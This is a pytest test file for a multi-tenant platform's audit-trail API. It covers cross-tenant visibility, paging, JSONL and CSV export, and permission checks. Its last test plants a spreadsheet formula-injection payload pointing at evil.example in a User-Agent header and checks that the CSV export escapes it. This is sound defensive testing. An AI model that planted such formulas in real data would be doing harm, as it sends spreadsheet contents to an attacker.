"""Reading the trail through the API: both sides see what they should, nothing more."""

from __future__ import annotations

import csv
import io
import json

import pytest

from tenantry.config import Settings
from tenantry.db.engine import Database
from tests.tenancy.test_customers_api import World, _user
from tests.tenancy.test_customers_api import world as world


@pytest.fixture
async def contoso_admin(world: World, database: Database, settings: Settings) -> dict[str, str]:
    from tenantry.tenancy.models import Tenant

    async with database.platform_reader() as session:
        tenant = await session.get(Tenant, world.tenants["contoso-ltd"])
    assert tenant is not None
    token = await _user(database, settings, tenant, "cara@contoso.example", "owner")
    return {"Authorization": f"Bearer {token}"}


async def test_customer_sees_the_msp_technicians_actions_by_name(
    world: World, contoso_admin: dict[str, str]
) -> None:
    await world.client.patch(
        "/api/v1/tenants/northwind-it/customers/contoso-ltd",
        json={"display_name": "Contoso Group"},
        headers=world.as_("alex"),
    )
    page = (
        await world.client.get("/api/v1/tenants/contoso-ltd/audit-events", headers=contoso_admin)
    ).json()
    renamed = [e for e in page["items"] if e["action"] == "tenant.renamed"]
    assert len(renamed) == 1
    event = renamed[0]
    assert event["actor_name"].startswith("alex")
    assert event["actor_home_tenant_name"] == "Northwind IT"
    assert event["via_link_id"] is not None
    assert "customers:manage" in event["explanation"]
    assert event["changes"] == {"display_name": ["Contoso Ltd", "Contoso Group"]}
    assert event["request_id"]
    # The customer never sees the MSP's own trail.
    msp = await world.client.get("/api/v1/tenants/northwind-it/audit-events", headers=contoso_admin)
    assert msp.status_code == 404


async def test_filters_paging_and_export(world: World, contoso_admin: dict[str, str]) -> None:
    for n in range(4):
        await world.client.patch(
            "/api/v1/tenants/northwind-it/customers/contoso-ltd",
            json={"display_name": f"Contoso {n}"},
            headers=world.as_("alex"),
        )
    url = "/api/v1/tenants/contoso-ltd/audit-events"
    seen, cursor = [], None
    while True:
        params = {
            "limit": "2",
            "action": "tenant.renamed",
            **({"cursor": cursor} if cursor else {}),
        }
        page = (await world.client.get(url, params=params, headers=contoso_admin)).json()
        seen += [e["seq"] for e in page["items"]]
        cursor = page["next_cursor"]
        if not cursor:
            break
    assert len(seen) == 4 and seen == sorted(seen, reverse=True)

    jsonl = await world.client.get(f"{url}/export", headers=contoso_admin)
    assert jsonl.headers["content-type"].startswith("application/x-ndjson")
    events = [json.loads(line) for line in jsonl.text.splitlines()]
    assert [e["seq"] for e in events] == list(range(1, len(events) + 1))
    as_csv = await world.client.get(
        f"{url}/export", params={"format": "csv"}, headers=contoso_admin
    )
    assert len(list(csv.DictReader(io.StringIO(as_csv.text)))) == len(events)

    bad = await world.client.get(
        url, params={"since": "2026-01-01T00:00:00"}, headers=contoso_admin
    )
    assert bad.status_code == 422 and bad.json()["errors"][0]["field"] == "since"
    bad = await world.client.get(f"{url}/export", params={"format": "xml"}, headers=contoso_admin)
    assert bad.status_code == 422 and bad.json()["errors"][0]["field"] == "format"


async def test_audit_needs_its_permission(
    world: World, settings: Settings, database: Database
) -> None:
    from tenantry.tenancy.models import Tenant

    async with database.platform_reader() as session:
        tenant = await session.get(Tenant, world.tenants["contoso-ltd"])
    assert tenant is not None
    token = await _user(database, settings, tenant, "sally@contoso.example", "software_requester")
    response = await world.client.get(
        "/api/v1/tenants/contoso-ltd/audit-events", headers={"Authorization": f"Bearer {token}"}
    )
    assert response.status_code == 403 and response.json()["permission"] == "audit:read"


async def test_the_csv_export_cannot_carry_a_formula(world: World) -> None:
    """Anyone can plant text in the trail: a failed sign-in for a known email records the
    caller's User-Agent. Opened in a spreadsheet, the export must show it, never run it."""
    planted = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    refused = await world.client.post(
        "/api/v1/auth/sign-in",
        json={"email": "alex@northwind.example", "password": "not the password"},
        headers={"User-Agent": planted},
    )
    assert refused.status_code == 401
    export = await world.client.get(
        "/api/v1/tenants/northwind-it/audit-events/export",
        params={"format": "csv"},
        headers=world.as_("alex"),
    )
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.text)))
    (failed,) = [r for r in rows if r["action"] == "auth.sign_in_failed"]
    assert failed["user_agent"] == "'" + planted
    for row in rows:
        for value in row.values():
            assert (value or "x")[0] not in "=+-@\t\r", row
